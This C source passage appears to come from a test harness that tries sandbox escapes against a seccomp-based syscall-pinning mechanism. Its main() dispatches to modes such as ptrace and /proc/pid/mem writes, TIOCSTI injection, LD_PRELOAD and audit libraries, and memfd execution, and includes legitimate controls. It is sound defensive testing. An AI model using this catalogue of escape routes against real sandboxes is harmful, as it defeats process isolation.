	else if (strcmp(what, "flags-t") == 0)
		set = "SYSPIN_FLAGS=t";
	else if (strcmp(what, "flags-j") == 0) {
		set = "SYSPIN_FLAGS=j";
		argv[1] = "mprotect";
	} else if (strcmp(what, "filling") == 0)
		set = "SYSPIN_FILLING=1";
	else if (strcmp(what, "dlopen") == 0) {
		if (asprintf(&set, "SYSPIN_DLOPEN=%s",
		    helper("libescape_sys.so")) == -1)
			return 1;
		argv[1] = "libc-syscall";
	} else
		return 2;
	const char *extra[] = { set };
	execve("/proc/self/exe", argv, env_with(extra, 1, true));
	return refused("execve");
}

/* ---- 16. a second, allow-all filter ---- */

/* Cannot loosen the first: the wrong-site mkdir is still killed. */
static int
allow_all_filter(void)
{
	struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K,
	    SECCOMP_RET_ALLOW);

	if (install(&allow, 1, 0) == -1)
		printf("second filter: %s\n", strerror(errno));
	return 0;
}

/* ---- controls ---- */

static int
mkdir_ok(void)
{
	return mkdir(mark, 0755) == 0 ? 0 : refused("mkdir");
}

int
main(int argc, char **argv)
{
	const char *m = argc >= 2 ? argv[1] : "";
	const char *arg = argc >= 4 ? argv[3] : NULL;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (strcmp(m, "noop") == 0)
		return 0;
	if (argc < 3) {
		fprintf(stderr, "usage: escape MODE MARK [ARG]\n");
		return 2;
	}
	mark = argv[2];
	if (strcmp(m, "wrong-site") == 0) return wrong_site();
	if (strcmp(m, "libc-site") == 0) return libc_site();
	if (strcmp(m, "raw-mkdir") == 0) return raw_mkdir(arg);
	if (strcmp(m, "remap-libc") == 0) return remap_libc();
	if (strcmp(m, "memfd") == 0) return file_code("memfd", false);
	if (strcmp(m, "shm-file") == 0) return file_code("shm", false);
	if (strcmp(m, "tmpfile") == 0) return file_code("tmpfile", false);
	if (strcmp(m, "tmp-file") == 0) return file_code("tmp", false);
	if (strcmp(m, "memfd-fixed") == 0) return file_code("memfd", true);
	if (strcmp(m, "shm-fixed") == 0) return file_code("shm", true);
	if (strcmp(m, "tmpfile-fixed") == 0) return file_code("tmpfile", true);
	if (strcmp(m, "tmp-fixed") == 0) return file_code("tmp", true);
	if (strcmp(m, "shared-double-memfd") == 0)
		return shared_double("memfd");
	if (strcmp(m, "shared-double-shm") == 0) return shared_double("shm");
	if (strcmp(m, "mprotect") == 0) return mprotect_code(false);
	if (strcmp(m, "pkey-mprotect") == 0) return mprotect_code(true);
	if (strcmp(m, "mremap-exec") == 0) return mremap_exec();
	if (strcmp(m, "personality") == 0) return persona();
	if (strcmp(m, "dlopen-raw") == 0)
		return dlopen_call("libescape_evil.so", "evil");
	if (strcmp(m, "preload-true") == 0) return preload("ctor", "true", arg);
	if (strcmp(m, "preload-self") == 0) return preload("ctor", "self", arg);
	if (strcmp(m, "preload-rt-true") == 0) return preload("rt", "true", arg);
	if (strcmp(m, "preload-rt-self") == 0) return preload("rt", "self", arg);
	if (strcmp(m, "audit-true") == 0) return preload("audit", "true", arg);
	if (strcmp(m, "audit-self") == 0) return preload("audit", "self", arg);
	if (strcmp(m, "ldso-preload") == 0)
		return ldso_option("--preload", "libescape_ctor.so");
	if (strcmp(m, "ldso-audit") == 0)
		return ldso_option("--audit", "libescape_audit.so");
	if (strcmp(m, "libc-syscall") == 0) return libc_syscall();
	if (strcmp(m, "exec-memfd") == 0) return exec_copy(true);
	if (strcmp(m, "exec-tmp") == 0) return exec_copy(false);
	if (strcmp(m, "ptrace") == 0 && arg) return ptrace_route(arg);
	if (strcmp(m, "mem") == 0 && arg) return mem_route(arg);
	if (strcmp(m, "vmwrite") == 0 && arg) return vm_route(arg);
	if (strcmp(m, "getfd") == 0 && arg) return getfd_route(arg);
	if (strcmp(m, "prlimit") == 0 && arg) return prlimit_route(arg);
	if (strcmp(m, "sigquit") == 0 && arg)
		return coresig_route(arg, SIGQUIT);
	if (strcmp(m, "sigsegv") == 0 && arg)
		return coresig_route(arg, SIGSEGV);
	if (strcmp(m, "sigqgroup") == 0 && arg)
		return coresig_group(arg);
	if (strcmp(m, "tiocsti") == 0) return tiocsti();
	if (strcmp(m, "tty-quit") == 0 && arg) return tty_quit(arg);
	if (strcmp(m, "tty-quit-own") == 0) return tty_quit(NULL);
	if (strcmp(m, "tty-fg") == 0 && arg) return tty_fg(arg);
	if (strcmp(m, "ownfilter-trace0") == 0) return own_trace_filter(0, false);
	if (strcmp(m, "ownfilter-traceffff") == 0)
		return own_trace_filter(0xffff, false);
	if (strcmp(m, "ownfilter-mkdir") == 0) return own_trace_filter(0, true);
	if (strcmp(m, "user-notif") == 0) return user_notif();
	if (strncmp(m, "env-", 4) == 0) return env_child(m + 4);
	if (strcmp(m, "filter") == 0)
		return allow_all_filter() || wrong_site();
	/* controls: the legitimate way, effect expected */
	if (strcmp(m, "mkdir-ok") == 0) return mkdir_ok();
	if (strcmp(m, "dlopen-ok") == 0)
		return dlopen_call("libescape_good.so", "good");
	if (strcmp(m, "filter-ok") == 0)
		return allow_all_filter() || mkdir_ok();
	fprintf(stderr, "escape: unknown mode %s\n", m);
	return 2;
}
